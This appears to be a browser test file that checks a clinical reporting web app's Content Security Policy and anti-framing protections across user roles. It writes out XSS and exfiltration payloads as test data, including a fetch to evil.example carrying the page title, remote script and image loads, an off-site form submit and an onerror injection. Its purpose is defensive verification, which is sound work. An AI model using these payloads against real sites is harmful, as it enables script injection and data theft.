import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { existsSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { aLink, FALLS } from '../api/answer-links.ts';
import { type Browser as Caller, enrol, type Person, startApi, type TestApi } from '../api/harness.ts';
import { startBrowser } from './pages.ts';

const BUILT_PAGES = process.env['OSTEON_WEB_ROOT'] ?? fileURLToPath(new URL('../../apps/web/dist', import.meta.url));

let api: TestApi;
let browser: Browser;
let nurse: Caller;

beforeAll(async () => {
  if (!existsSync(`${BUILT_PAGES}/index.html`)) throw new Error('The pages are not built; run these by npm test.');
  api = await startApi({ webRoot: BUILT_PAGES });
  browser = await startBrowser();
  nurse = await api.as('nurse');
  for (let count = 0; count < 3; count += 1) await enrol(nurse);
});
afterAll(async () => {
  await browser.close();
  await api.close();
});

/** Says on the console what the browser refused, as the page cannot be asked once it has gone. */
const LISTEN = `addEventListener('securitypolicyviolation', (event) =>
  console.error('refused: ' + event.effectiveDirective + ' ' + event.blockedURI + ' ' + event.sample))`;

interface Watched {
  readonly page: Page;
  readonly context: BrowserContext;
  readonly complaints: string[];
}

async function watch(caller: Caller | null): Promise<Watched> {
  const context = await browser.newContext({ baseURL: api.url, locale: 'en-GB' });
  if (caller !== null) {
    const [name = '', value = ''] = caller.cookie.split('=');
    await context.addCookies([{ name, value, url: api.url, httpOnly: true, sameSite: 'Strict' }]);
  }
  const page = await context.newPage();
  const complaints: string[] = [];
  await page.addInitScript(LISTEN);
  page.on('pageerror', (error) => complaints.push(`${page.url()}: ${error.message}`));
  page.on('console', (message) => {
    if (/^refused:|content security policy|trusted ?type|permissions policy/i.test(message.text()))
      complaints.push(`${page.url()}: ${message.text()}`);
  });
  return { page, context, complaints };
}

/** Where the page leads within itself, one address of each kind. */
const linksOf = async (page: Page): Promise<readonly string[]> =>
  page.evaluate<string[]>(
    `[...new Set([...document.querySelectorAll('a[href^="/"]')].map((a) => a.getAttribute('href').split('#')[0]))]`,
  );

const kindOf = (address: string): string =>
  (address.split('?', 1)[0] ?? '').replace(/[0-9a-f]{8}-[0-9a-f-]{27}/g, 'id');

const settled = (page: Page): Promise<void> => page.waitForLoadState('networkidle');

describe('the browser refuses nothing that the pages do', () => {
  it.each(['nurse', 'lead', 'safetyOfficer', 'auditor', 'admin'] satisfies Person[])(
    'for the %s, page by page',
    async (person) => {
      const { page, context, complaints } = await watch(await api.as(person));
      const seen = new Set<string>();
      const ahead = ['/'];
      for (let address = ahead.shift(); address !== undefined && seen.size < 25; address = ahead.shift()) {
        if (seen.has(kindOf(address))) continue;
        seen.add(kindOf(address));
        await page.goto(address);
        await settled(page);
        for (const link of await linksOf(page))
          if (!seen.has(kindOf(link)) && !link.startsWith('/api/')) ahead.push(link);
        // What opens without leaving the page brings styles and fonts of its own.
        await page.keyboard.press('?');
        await page.keyboard.press('Escape');
      }
      expect(complaints).toEqual([]);
      expect(seen.size).toBeGreaterThan(1);
      await context.close();
    },
  );

  it('before anybody has signed in', async () => {
    const { page, context, complaints } = await watch(null);
    for (const address of ['/', '/setup', '/nothing']) {
      await page.goto(address);
      await settled(page);
    }
    expect(complaints).toEqual([]);
    await context.close();
  });

  it('on the pages without script', async () => {
    const { path } = await aLink(api, nurse, [FALLS]);
    const { page, context, complaints } = await watch(null);
    for (const address of [path, '/oauth/interaction/gone', '/oauth/authorize?client_id=nobody']) {
      await page.goto(address);
      await settled(page);
      expect(await page.locator('h1').count()).toBe(1);
    }
    expect(complaints).toEqual([]);
    await context.close();
  });
});

describe('the browser refuses what the pages never do', () => {
  it.each([
    [
      'a script in the page',
      `const s = document.createElement('script'); s.text = 'window.ran = 1'; document.body.append(s)`,
    ],
    [
      'a script from elsewhere',
      `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)`,
    ],
    ['markup from a text', `document.body.innerHTML = '<img src=x onerror="window.ran = 1">'`],
    ['code from a text', `setTimeout('window.ran = 1', 0)`],
    [
      'a style in the page',
      `const s = document.createElement('style'); s.textContent = 'body{display:none}'; document.head.append(s)`,
    ],
    ['telling somebody else', `fetch('https://evil.example/?' + document.title).catch(() => {})`],
    ['a picture from elsewhere', `new Image().src = 'https://evil.example/x.png'`],
    [
      'a form to somebody else',
      `const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit()`,
    ],
  ])('%s', async (_, attack) => {
    const { page, context, complaints } = await watch(await api.as('nurse'));
    await page.goto('/');
    await settled(page);
    expect(complaints).toEqual([]);
    await page.evaluate(`(() => { try { ${attack} } catch {} })()`);
    // The browser says so soon, but when is its own affair.
    for (let tries = 0; tries < 100 && complaints.length === 0; tries += 1) await page.waitForTimeout(100);
    expect(complaints.join()).toMatch(/refused:|Content Security Policy|TrustedHTML|TrustedScript/i);
    expect(await page.evaluate('window.ran')).toBeUndefined();
    await context.close();
  });

  it('a frame around them', async () => {
    const { page, context } = await watch(null);
    await page.route('https://evil.example/', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${api.url}/"></iframe>` }),
    );
    await page.goto('https://evil.example/');
    await page.waitForTimeout(300);
    expect(page.frames().some((frame) => frame.url().startsWith(`${api.url}/`) && frame !== page.mainFrame())).toBe(
      false,
    );
    await context.close();
  });
});
